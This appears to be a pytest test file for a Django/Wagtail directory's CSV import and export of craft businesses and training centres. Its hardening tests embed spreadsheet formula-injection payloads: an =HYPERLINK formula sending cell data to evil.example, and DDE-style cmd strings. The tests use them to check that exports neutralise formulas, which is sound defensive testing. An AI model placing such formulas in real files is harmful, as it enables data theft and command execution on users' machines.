import csv
import io

import pytest
from django.contrib.auth.models import Group, Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from wagtail.models import Page, PageLogEntry, PageViewRestriction, Revision

from actors.exchange import (
    COLUMNS,
    RELATION_COLUMNS,
    ImportFileError,
    actor_to_row,
    import_actors,
    write_csv,
)
from actors.models import ActorPage
from actors.views import exported_actors
from tests.factories import knowledge as knowledge_factories
from tests.factories import trades as trade_factories


@pytest.fixture
def linked(directory, communes, taxonomy, home_page, trade_index):
    return {
        "trade": trade_factories.trade(trade_index, taxonomy),
        "label": knowledge_factories.label(knowledge_factories.label_index(home_page), title="Maître d'art"),
        "know_how": knowledge_factories.know_how(knowledge_factories.know_how_index(home_page)),
    }


def csv_bytes(rows, columns=COLUMNS, delimiter=","):
    output = io.StringIO()
    writer = csv.DictWriter(output, fieldnames=columns, delimiter=delimiter, extrasaction="ignore")
    writer.writeheader()
    for row in rows:
        writer.writerow({column: row.get(column, "") for column in columns})
    return output.getvalue().encode("utf-8")


VALID_ROWS = [
    {
        "siret": "12345678900011",
        "nom": "Atelier du tuffeau",
        "type": "entreprise",
        "membre": "oui",
        "adresse": "3 rue de la Pierre",
        "code_postal": "49400",
        "commune": "Saumur",
        "departement": "49",
        "latitude": "47.26",
        "longitude": "-0.08",
        "site_web": "https://example.org/tuffeau",
        "contact_publiable": "oui",
        "email_contact": "contact@example.org",
        "resume": "Taille de pierre.",
        "description": "Premier paragraphe.\n\nSecond paragraphe.",
        "domaines": "patrimoine-bati | architecture-jardins",
        "metiers_pratiques": "tailleur-de-pierre",
        "labels": "maitre-dart",
        "savoir_faire": "enduit-a-la-chaux",
    },
    {
        "nom": "CFA de Laval",
        "type": "formation",
        "commune": "Laval",
        "departement": "mayenne",
        "metiers_enseignes": "tailleur-de-pierre",
    },
    {
        "nom": "Ville de Guérande",
        "type": "Collectivité",
        "code_insee": "44069",
        "commune": "",
        "departement": "44",
    },
]


@pytest.mark.django_db
def test_a_valid_file_creates_published_actors_with_their_links(directory, linked, taxonomy):
    result = import_actors(csv_bytes(VALID_ROWS))
    assert result.errors == []
    assert (result.created, result.updated, result.unchanged) == (3, 0, 0)
    workshop = ActorPage.objects.get(siret="12345678900011")
    assert workshop.live
    assert workshop.get_parent().pk == directory.pk
    assert workshop.kind == ActorPage.Kind.COMPANY
    assert workshop.is_member
    assert workshop.department.code == "49"
    assert [str(workshop.latitude), str(workshop.longitude)] == ["47.26000", "-0.08000"]
    assert not workshop.approximate_location
    assert list(workshop.trades_practised.all()) == [linked["trade"]]
    assert list(workshop.labels.all()) == [linked["label"]]
    assert list(workshop.know_how.all()) == [linked["know_how"]]
    assert workshop.domains.count() == 2
    # Without coordinates: the commune's centre, said to be approximate.
    school = ActorPage.objects.get(title="CFA de Laval")
    assert (school.latitude, school.longitude) == (school.commune.latitude, school.commune.longitude)
    assert school.approximate_location
    assert ActorPage.objects.get(title="Ville de Guérande").commune.name == "Guérande"


@pytest.mark.django_db
def test_a_file_with_bad_rows_writes_nothing_and_names_each_line_and_column(directory, linked):
    bad = [
        VALID_ROWS[0],
        {"nom": "", "type": "entreprise", "commune": "Saumur", "departement": "49"},
        {"nom": "Inconnu", "type": "vaisseau", "commune": "Atlantis", "departement": "99"},
        {
            "nom": "Hors région",
            "type": "association",
            "commune": "Nantes",
            "departement": "44",
            "latitude": "48.85",
            "longitude": "2.35",
        },
        {
            "nom": "Mauvais contact",
            "type": "association",
            "commune": "Nantes",
            "departement": "44",
            "site_web": "pas une adresse",
            "email_contact": "contact@",
            "contact_publiable": "oui",
        },
        {
            "nom": "Sans accord",
            "type": "association",
            "commune": "Nantes",
            "departement": "44",
            "email_contact": "jean.dupont@example.org",
        },
        {"nom": "Mauvais département", "type": "association", "commune": "Nantes", "departement": "49"},
        {
            "nom": "Lien inconnu",
            "type": "association",
            "commune": "Nantes",
            "departement": "44",
            "labels": "label-qui-nexiste-pas",
        },
    ]
    result = import_actors(csv_bytes(bad))
    assert ActorPage.objects.count() == 0
    found = {(error.line, error.column) for error in result.errors}
    assert found == {
        (3, "nom"),
        (4, "type"),
        (4, "commune"),
        (4, "departement"),
        (5, "latitude"),
        (6, "site_web"),
        (6, "email_contact"),
        (7, "contact_publiable"),
        (8, "departement"),
        (9, "labels"),
    }
    assert str(result.errors[0]).startswith("Ligne 3, colonne « nom »")


@pytest.mark.django_db
def test_reimporting_the_same_file_changes_nothing_and_makes_no_revision(directory, linked):
    content = csv_bytes(VALID_ROWS)
    import_actors(content)
    revisions = Revision.objects.count()
    again = import_actors(content)
    assert (again.created, again.updated, again.unchanged) == (0, 0, 3)
    assert Revision.objects.count() == revisions
    changed = [dict(VALID_ROWS[0], resume="Taille et sculpture."), *VALID_ROWS[1:]]
    third = import_actors(csv_bytes(changed))
    assert (third.created, third.updated, third.unchanged) == (0, 1, 2)
    assert ActorPage.objects.get(siret="12345678900011").summary == "Taille et sculpture."
    assert ActorPage.objects.count() == 3


@pytest.mark.django_db
def test_an_actor_imported_without_siret_gains_it_from_a_later_file(directory, linked):
    import_actors(csv_bytes([dict(VALID_ROWS[0], siret="")]))
    first = ActorPage.objects.get()
    result = import_actors(csv_bytes([VALID_ROWS[0]]))
    assert result.errors == []
    assert (result.created, result.updated, result.unchanged) == (0, 1, 0)
    actor = ActorPage.objects.get(siret="12345678900011")
    assert actor.pk == first.pk
    assert ActorPage.objects.count() == 1
    again = import_actors(csv_bytes([VALID_ROWS[0]]))
    assert (again.created, again.updated, again.unchanged) == (0, 0, 1)
    # From now on its SIRET matches it, whatever name a row gives it.
    renamed = import_actors(csv_bytes([dict(VALID_ROWS[0], nom="Ateliers du tuffeau")]))
    assert (renamed.created, renamed.updated, renamed.unchanged) == (0, 1, 0)
    assert ActorPage.objects.get().pk == first.pk


@pytest.mark.django_db
def test_an_actor_with_a_siret_renamed_in_a_later_file_is_updated_not_duplicated(directory, linked):
    import_actors(csv_bytes(VALID_ROWS))
    workshop = ActorPage.objects.get(siret="12345678900011")
    renamed = [dict(VALID_ROWS[0], nom="Ateliers saumurois du tuffeau"), *VALID_ROWS[1:]]
    result = import_actors(csv_bytes(renamed))
    assert (result.created, result.updated, result.unchanged) == (0, 1, 2)
    assert ActorPage.objects.count() == 3
    renamed_workshop = ActorPage.objects.get(siret="12345678900011")
    assert (renamed_workshop.pk, renamed_workshop.title) == (workshop.pk, "Ateliers saumurois du tuffeau")


@pytest.mark.parametrize(
    ("second_row", "column", "message"),
    [
        # Without SIRET, it matches the stored actor by name and commune, as the first row does.
        (dict(VALID_ROWS[0], siret="", resume="Autre résumé."), "nom", "même acteur qu'à la ligne 2 :"),
        # A new name, but the SIRET the first row gives the stored actor.
        (dict(VALID_ROWS[0], nom="Autre atelier"), "siret", "même acteur qu'à la ligne 2 (même SIRET"),
    ],
)
@pytest.mark.django_db
def test_two_rows_for_one_stored_actor_are_refused_naming_both_lines(
    directory, linked, second_row, column, message
):
    import_actors(csv_bytes([dict(VALID_ROWS[0], siret="")]))
    stored = ActorPage.objects.get()
    result = import_actors(csv_bytes([VALID_ROWS[0], second_row]))
    assert [(error.line, error.column) for error in result.errors] == [(3, column)]
    assert message in str(result.errors[0])
    actor = ActorPage.objects.get()
    assert (actor.pk, actor.siret, actor.summary) == (stored.pk, "", stored.summary)


@pytest.mark.django_db
def test_a_row_without_siret_matches_the_stored_actor_that_has_one_and_keeps_its_siret(directory, linked):
    # An old file, from before the SIRETs were added, imported again.
    import_actors(csv_bytes(VALID_ROWS))
    workshop = ActorPage.objects.get(siret="12345678900011")
    revisions = Revision.objects.count()
    old_file = [dict(VALID_ROWS[0], siret=""), *VALID_ROWS[1:]]
    result = import_actors(csv_bytes(old_file))
    assert result.errors == []
    assert (result.created, result.updated, result.unchanged) == (0, 0, 3)
    assert ActorPage.objects.count() == 3
    assert Revision.objects.count() == revisions
    # Something else changed: the actor is updated, and its SIRET is kept, not blanked.
    changed = [dict(VALID_ROWS[0], siret="", resume="Taille et sculpture."), *VALID_ROWS[1:]]
    result = import_actors(csv_bytes(changed))
    assert (result.created, result.updated, result.unchanged) == (0, 1, 2)
    actor = ActorPage.objects.get(pk=workshop.pk)
    assert (actor.siret, actor.summary) == ("12345678900011", "Taille et sculpture.")
    assert actor.get_latest_revision().as_object().siret == "12345678900011"
    assert ActorPage.objects.count() == 3
    # The kept SIRET still matches it: a row with the SIRET and another name updates it.
    renamed = [dict(VALID_ROWS[0], nom="Ateliers du tuffeau", resume="Taille et sculpture."), *VALID_ROWS[1:]]
    result = import_actors(csv_bytes(renamed))
    assert (result.created, result.updated, result.unchanged) == (0, 1, 2)
    assert ActorPage.objects.get(siret="12345678900011").pk == workshop.pk


@pytest.mark.django_db
def test_a_row_with_siret_and_a_row_without_for_one_stored_actor_are_refused(directory, linked):
    import_actors(csv_bytes([VALID_ROWS[0]]))
    stored = ActorPage.objects.get()
    for rows, line, column in [
        ([VALID_ROWS[0], dict(VALID_ROWS[0], siret="", resume="Autre.")], 3, "nom"),
        ([dict(VALID_ROWS[0], siret="", resume="Autre."), VALID_ROWS[0]], 3, "siret"),
    ]:
        result = import_actors(csv_bytes(rows))
        assert [(error.line, error.column) for error in result.errors] == [(line, column)]
        assert "même acteur qu'à la ligne 2 : les deux correspondent à « Atelier du tuffeau »" in str(
            result.errors[0]
        )
    actor = ActorPage.objects.get()
    assert (actor.pk, actor.summary) == (stored.pk, stored.summary)


@pytest.mark.django_db
def test_new_rows_of_one_name_and_commune_are_one_actor_unless_two_sirets_tell_them_apart(directory, linked):
    other = dict(VALID_ROWS[0], siret="98765432100022", latitude="47.25", longitude="-0.07")
    # Two establishments: two SIRETs, both created; a file without their SIRETs cannot tell them apart.
    result = import_actors(csv_bytes([VALID_ROWS[0], other]))
    assert result.created == 2
    result = import_actors(csv_bytes([dict(VALID_ROWS[0], siret="")]))
    assert [(error.line, error.column) for error in result.errors] == [(2, "siret")]
    assert (
        "2 acteurs sont enregistrés sous le nom « Atelier du tuffeau » à Saumur (49328) "
        "(SIRET : 12345678900011, 98765432100022) : donnez le SIRET de celui que décrit cette ligne."
    ) in str(result.errors[0])
    # A new row without SIRET beside a new row with one: the next import could not tell them apart.
    new = {"nom": "Musée", "type": "musee-site", "commune": "Nantes", "departement": "44"}
    result = import_actors(csv_bytes([new, dict(new, siret="11122233300044")]))
    assert [(error.line, error.column) for error in result.errors] == [(3, "siret")]
    assert "même acteur qu'à la ligne 2 (même SIRET, ou même nom et même commune)" in str(result.errors[0])
    assert ActorPage.objects.count() == 2


def directory_state():
    """Everything an import writes: actor pages and their fields, revisions, log entries, links."""
    actors = ActorPage.objects.select_related("commune", "department").order_by("pk")
    return {
        "actors": [
            (actor.pk, actor.slug, actor.live, actor.latest_revision_id, actor_to_row(actor))
            for actor in actors
        ],
        "pages": Page.objects.count(),
        "revisions": Revision.objects.count(),
        "log_entries": PageLogEntry.objects.count(),
        "links": {
            field_name: ActorPage._meta.get_field(field_name).remote_field.through.objects.count()
            for _column, field_name in RELATION_COLUMNS
        },
    }


@pytest.mark.django_db
def test_a_failure_while_writing_leaves_nothing_of_the_file(directory, linked, monkeypatch):
    import_actors(csv_bytes(VALID_ROWS))
    before = directory_state()
    publish = Revision.publish
    published = []

    def publish_then_fail_on_the_third(revision, *args, **kwargs):
        published.append(revision.object_id)
        if len(published) == 3:
            raise RuntimeError("the database went away")
        return publish(revision, *args, **kwargs)

    monkeypatch.setattr(Revision, "publish", publish_then_fail_on_the_third)
    second_file = [
        # An update that drops links, then a new actor with links (both written and published),
        # then a new actor whose page, links and revision exist when its publication fails.
        dict(VALID_ROWS[0], resume="Taille et sculpture.", labels=""),
        {
            "nom": "Musée de la pierre",
            "type": "musee-site",
            "commune": "Nantes",
            "departement": "44",
            "labels": "maitre-dart",
            "domaines": "patrimoine-bati",
        },
        {
            "nom": "Chantier école",
            "type": "formation",
            "commune": "Angers",
            "departement": "49",
            "metiers_enseignes": "tailleur-de-pierre",
        },
    ]
    with pytest.raises(RuntimeError, match="the database went away"):
        import_actors(csv_bytes(second_file))
    assert len(published) == 3
    assert directory_state() == before
    assert not ActorPage.objects.filter(title__in=["Musée de la pierre", "Chantier école"]).exists()


@pytest.mark.django_db
def test_export_then_import_is_a_lossless_round_trip(client, directory, linked):
    import_actors(csv_bytes(VALID_ROWS))
    exported = client.get("/annuaire/export/").content
    assert exported.decode("utf-8-sig").splitlines()[0] == ",".join(COLUMNS)
    result = import_actors(exported)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 3)
    output = io.StringIO()
    write_csv(exported_actors(directory, {}), output)
    assert output.getvalue() == exported.decode("utf-8-sig")


@pytest.mark.django_db
def test_semicolon_files_from_french_spreadsheets_are_read(directory, linked):
    result = import_actors(csv_bytes(VALID_ROWS[1:], delimiter=";"))
    assert result.created == 2


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("nom,type,commune,departement\nCafé,entreprise,Nantes,44\n".encode("latin-1"), "UTF-8"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "pas un fichier CSV"),
        (b"", "vide"),
        (b"Atelier,entreprise,Nantes,44\n", "Manquantes : nom, type, commune, departement"),
        (b"nom,type,commune,departement,couleur\n", "Colonnes inconnues : couleur"),
        # An export of before the working groups became the agenda's pages: the editor is told why.
        (b"nom,type,commune,departement,groupes_de_travail\n", "« groupes_de_travail »"),
    ],
)
@pytest.mark.django_db
def test_a_broken_file_gets_a_clear_message(directory, content, message):
    with pytest.raises(ImportFileError, match=message):
        import_actors(content)


@pytest.mark.django_db
def test_command_imports_and_reports_errors(tmp_path, directory, linked, capsys):
    path = tmp_path / "acteurs.csv"
    path.write_bytes(csv_bytes(VALID_ROWS))
    call_command("import_actors", str(path))
    assert "3 créés, 0 mis à jour, 0 inchangé" in capsys.readouterr().out
    path.write_bytes(csv_bytes([{"nom": "X", "type": "?", "commune": "Nantes", "departement": "44"}]))
    with pytest.raises(CommandError):
        call_command("import_actors", str(path))
    assert "colonne « type »" in capsys.readouterr().err


@pytest.fixture
def editor(django_user_model):
    user = django_user_model.objects.create_user("editrice", password="pass")
    editors = Group.objects.get_or_create(name="Editors")[0]
    editors.permissions.add(Permission.objects.get(codename="access_admin"))
    user.groups.add(editors)
    return user


@pytest.mark.django_db
def test_admin_import_needs_the_permission(client, directory, editor):
    client.force_login(editor)
    assert client.get("/admin/actors/import/").status_code == 403
    assert "/admin/actors/import/" not in client.get("/admin/").content.decode()


@pytest.mark.django_db
def test_admin_import_page_shows_progress_once_submitted(client, directory, editor):
    editor.user_permissions.add(Permission.objects.get(codename="import_actors"))
    client.force_login(editor)
    html = client.get("/admin/actors/import/").content.decode()
    # Hidden until the script shows it on submit: without JavaScript, the form still works.
    assert "<div data-import-progress hidden>" in html
    assert "<progress " in html
    assert 'role="status"' in html
    assert "Import en cours… ne fermez pas cette page." in html
    assert '<script src="/static/dist/js/actor-import.js" defer></script>' in html
    assert "sinon sur son nom et sa commune" in html


@pytest.mark.django_db
def test_admin_import_with_the_permission(client, directory, linked, editor):
    editor.user_permissions.add(Permission.objects.get(codename="import_actors"))
    client.force_login(editor)
    assert "/admin/actors/import/" in client.get("/admin/").content.decode()
    bad = SimpleUploadedFile(
        "a.csv", csv_bytes([{"nom": "X", "type": "?", "commune": "Nantes", "departement": "44"}])
    )
    response = client.post("/admin/actors/import/", {"file": bad})
    assert response.status_code == 400
    assert "Ligne 2, colonne « type »" in response.content.decode()
    assert ActorPage.objects.count() == 0
    broken = SimpleUploadedFile("a.csv", b"\xff\xfe\x00n\x00o\x00m")
    response = client.post("/admin/actors/import/", {"file": broken})
    assert response.status_code == 200
    assert "CSV" in response.content.decode()
    good = SimpleUploadedFile("a.csv", csv_bytes(VALID_ROWS))
    response = client.post("/admin/actors/import/", {"file": good}, follow=True)
    assert ActorPage.objects.count() == 3
    assert "3 créés" in response.content.decode()


# Hardening (issue 9, findings 2 and 4) ------------------------------------------------------------

FORMULA_ROW = dict(
    VALID_ROWS[0],
    nom='=HYPERLINK("https://evil.example/?x="&A1,"Cliquez ici")',
    resume="+cmd|' /C calc'!A0",
    description="@SUM(1+1)*cmd|' /C calc'!A0",
    adresse="-2+3+cmd|' /C calc'!A0",
    telephone_contact="+33 2 40 00 00 00",
)


def exported_cells(client, url="/annuaire/export/"):
    text = client.get(url).content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.django_db
def test_the_export_neutralises_formulas_and_the_round_trip_keeps_the_text(client, directory, linked):
    second = dict(VALID_ROWS[1], description="- une liste\n- à puces")
    assert import_actors(csv_bytes([FORMULA_ROW, second])).errors == []
    rows = exported_cells(client)
    for row in rows:
        for column, value in row.items():
            assert value.lstrip(" ")[:1] not in {"=", "+", "@", "\t", "\r"}, (column, value)
            assert not value.lstrip(" ").startswith("-") or value.lstrip("-").replace(".", "").isdigit()
    workshop = next(row for row in rows if row["siret"] == "12345678900011")
    assert workshop["nom"] == "'" + FORMULA_ROW["nom"]
    assert workshop["telephone_contact"] == "'+33 2 40 00 00 00"
    assert workshop["longitude"] == "-0.08000"
    # Read back, every cell gives the stored text: nothing changes.
    result = import_actors(client.get("/annuaire/export/").content)
    assert result.errors == []
    assert (result.created, result.updated, result.unchanged) == (0, 0, 2)
    stored = ActorPage.objects.get(siret="12345678900011")
    assert (stored.title, stored.contact_phone, stored.address) == (
        FORMULA_ROW["nom"],
        "+33 2 40 00 00 00",
        FORMULA_ROW["adresse"],
    )
    assert ActorPage.objects.get(title="CFA de Laval").description == "- une liste\n- à puces"


@pytest.mark.django_db
def test_the_export_names_only_linked_pages_a_visitor_may_see(
    client, directory, linked, home_page, taxonomy, trade_index
):
    public_trade = linked["trade"]
    protected = trade_factories.trade(trade_index, taxonomy, slug="zzpassleak", title="Zzpassleak tailleur")
    PageViewRestriction.objects.create(
        page=protected, restriction_type=PageViewRestriction.PASSWORD, password="secret"
    )
    restricted_label = knowledge_factories.label(
        knowledge_factories.label_index(home_page), slug="zzgrouplabel", title="Zzgrouplabel label"
    )
    restriction = PageViewRestriction.objects.create(
        page=restricted_label, restriction_type=PageViewRestriction.GROUPS
    )
    restriction.groups.add(Group.objects.create(name="Membres"))
    draft = trade_factories.trade(trade_index, taxonomy, slug="zzdraft", title="Zzdraft")
    draft.live = False
    draft.save()
    unpublished = trade_factories.trade(trade_index, taxonomy, slug="zzunpublished", title="Zzunpublished")
    unpublished.unpublish()
    row = dict(
        VALID_ROWS[0],
        metiers_pratiques="tailleur-de-pierre | zzpassleak | zzdraft",
        metiers_enseignes="zzunpublished",
        labels="maitre-dart | zzgrouplabel",
    )
    assert import_actors(csv_bytes([row])).errors == []
    [exported] = exported_cells(client)
    assert exported["metiers_pratiques"] == public_trade.slug
    assert exported["metiers_enseignes"] == ""
    assert exported["labels"] == linked["label"].slug
    body = client.get("/annuaire/export/").content.decode("utf-8-sig")
    for hidden in ("zzpassleak", "zzgrouplabel", "zzdraft", "zzunpublished"):
        assert hidden not in body


LONG_VALUES = [
    ("site_web", "https://example.org/" + "a" * 200),
    ("adresse", "3 rue " + "b" * 250),
    ("email_contact", "c" * 64 + "@" + ("d" * 60 + ".") * 3 + "example.org"),
]


@pytest.mark.django_db
def test_the_check_applies_the_models_own_validation_to_every_field(directory, linked):
    rows = [dict(VALID_ROWS[0], siret="", **{column: value}) for column, value in LONG_VALUES]
    rows = [dict(row, nom=f"Atelier {number}") for number, row in enumerate(rows)]
    result = import_actors(csv_bytes(rows), check_only=True)
    assert [(error.line, error.column) for error in result.errors] == [
        (2, "site_web"),
        (3, "adresse"),
        (4, "email_contact"),
    ]
    assert "au plus 200 caractères" in str(result.errors[0])
    result = import_actors(csv_bytes(rows))
    assert len(result.errors) == 3
    assert ActorPage.objects.count() == 0


@pytest.mark.django_db
def test_the_command_reports_overlong_fields_without_a_traceback(tmp_path, directory, linked, capsys):
    path = tmp_path / "acteurs.csv"
    path.write_bytes(csv_bytes([dict(VALID_ROWS[0], site_web=LONG_VALUES[0][1])]))
    for options in (["--check"], []):
        with pytest.raises(CommandError, match="rien n'a été importé"):
            call_command("import_actors", str(path), *options)
        assert "Ligne 2, colonne « site_web »" in capsys.readouterr().err
    assert ActorPage.objects.count() == 0


@pytest.mark.django_db
def test_the_admin_upload_reports_overlong_fields_with_a_400(client, directory, linked, editor):
    editor.user_permissions.add(Permission.objects.get(codename="import_actors"))
    client.force_login(editor)
    upload = SimpleUploadedFile("a.csv", csv_bytes([dict(VALID_ROWS[0], adresse=LONG_VALUES[1][1])]))
    response = client.post("/admin/actors/import/", {"file": upload})
    assert response.status_code == 400
    assert "Ligne 2, colonne « adresse »" in response.content.decode()
    assert ActorPage.objects.count() == 0


@pytest.mark.django_db
def test_a_nul_byte_anywhere_is_refused_naming_its_line_and_column(directory, linked):
    rows = [dict(VALID_ROWS[1], nom=f"CFA {number}", description="x" * 100) for number in range(60)]
    rows.append(dict(VALID_ROWS[2], description="avant\x00après"))
    content = csv_bytes(rows)
    assert content.index(b"\x00") > 4096
    result = import_actors(content, check_only=True)
    assert [(error.line, error.column) for error in result.errors] == [(62, "description")]
    assert "NUL" in str(result.errors[0])
    assert ActorPage.objects.count() == 0


@pytest.mark.parametrize(("delimiter", "named"), [("\t", "tabulation"), ("|", "« | »")])
@pytest.mark.django_db
def test_a_file_with_another_separator_says_which_one_was_found(directory, delimiter, named):
    content = delimiter.join(["nom", "type", "commune", "departement"]).encode() + b"\nA\tb\tc\td\n"
    with pytest.raises(ImportFileError, match=named):
        import_actors(content)


@pytest.mark.django_db
def test_an_encoding_error_names_its_line(directory):
    content = "nom,type,commune,departement\nAtelier,entreprise,Nantes,44\nCafé,entreprise,Nantes,44\n"
    with pytest.raises(ImportFileError, match="ligne 3"):
        import_actors(content.encode("latin-1"))


@pytest.mark.django_db
def test_an_unbalanced_quote_is_named_with_its_line(directory, linked):
    content = (
        'nom,type,commune,departement\nAtelier,entreprise,Nantes,44\n"Musée,musee-site,Nantes,44\n'
        "Forge,entreprise,Nantes,44\n"
    ).encode()
    with pytest.raises(ImportFileError, match=r"Ligne 3.*guillemet"):
        import_actors(content, check_only=True)


@pytest.mark.django_db
def test_the_command_has_the_admin_forms_size_limit(tmp_path, directory):
    path = tmp_path / "grand.csv"
    path.write_bytes(b"nom,type,commune,departement\n" + b"x" * (5 * 1024 * 1024))
    with pytest.raises(CommandError, match="5 Mo"):
        call_command("import_actors", str(path), "--check")
